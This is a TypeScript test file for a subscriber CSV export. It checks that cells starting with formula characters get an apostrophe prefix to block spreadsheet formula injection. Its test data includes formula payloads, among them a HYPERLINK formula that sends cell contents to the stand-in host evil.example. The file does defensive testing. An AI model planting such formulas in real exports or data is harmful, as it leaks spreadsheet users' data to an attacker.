import { randomBytes } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { migrate, openStore } from '../../../src/store/database.ts';
import { createSubscriberStore } from '../../../src/store/subscribers.ts';
import { runCli } from '../../support/run-cli.ts';
import { tempProject, type TempProject } from '../../support/temp-project.ts';

const NOW = new Date('2026-03-02T10:00:00Z');
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?d="&A1,"click")',
  '+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\tx',
  '\rx',
];

describe('subscribers export --format csv is safe to open in a spreadsheet', () => {
  let temp: TempProject;
  beforeAll(async () => {
    temp = await tempProject();
    const db = openStore(temp.config.database);
    await migrate(db);
    const store = createSubscriberStore(db);
    for (const [i, hostile] of HOSTILE.entries()) {
      await store.insert({
        publicId: randomBytes(16).toString('base64url'),
        email: `r${i}@example.org`,
        emailNormalized: `r${i}@example.org`,
        name: hostile,
        status: 'active',
        timezone: null,
        sendTime: null,
        consentAt: NOW.getTime(),
        consentIp: '203.0.113.9',
        consentUserAgent: hostile,
        consentSource: 'web',
        createdAt: NOW.getTime(),
        confirmedAt: NOW.getTime(),
        statusChangedAt: NOW.getTime(),
        nextSendAt: null,
        lastSentAt: null,
        confirmSentAt: null,
      });
    }
    await db.destroy();
  });
  afterAll(() => temp.cleanup());

  it("prefixes ' to every cell that starts with = + - @ TAB or CR, and leaves the JSON exact", async () => {
    const csv = await runCli(['subscribers', 'export'], temp.dir, {}, NOW);
    expect(csv.code).toBe(0);
    const rows = parse(csv.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.name)).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(rows.map((r) => r.consent_user_agent)).toEqual(HOSTILE.map((h) => `'${h}`));
    // Harmless cells are untouched: addresses, dates, the IP.
    expect(rows[0]).toMatchObject({
      email: 'r0@example.org',
      consent_ip: '203.0.113.9',
      created_at: NOW.toISOString(),
    });

    const json = await runCli(['subscribers', 'export', '--format', 'json'], temp.dir, {}, NOW);
    const parsed = JSON.parse(json.stdout) as { name: string }[];
    expect(parsed.map((r) => r.name)).toEqual(HOSTILE);
    const none = await runCli(['subscribers', 'export', '--format', 'json', '--status', 'paused'], temp.dir, {}, NOW);
    expect(JSON.parse(none.stdout)).toEqual([]);
  });

  it('says so in --help', async () => {
    const help = await runCli(['subscribers', 'export', '--help'], temp.dir, {}, NOW);
    expect(help.stdout).toContain('starts with = + - @, a tab or a carriage');
    expect(help.stdout).toContain('OWASP');
  });
});
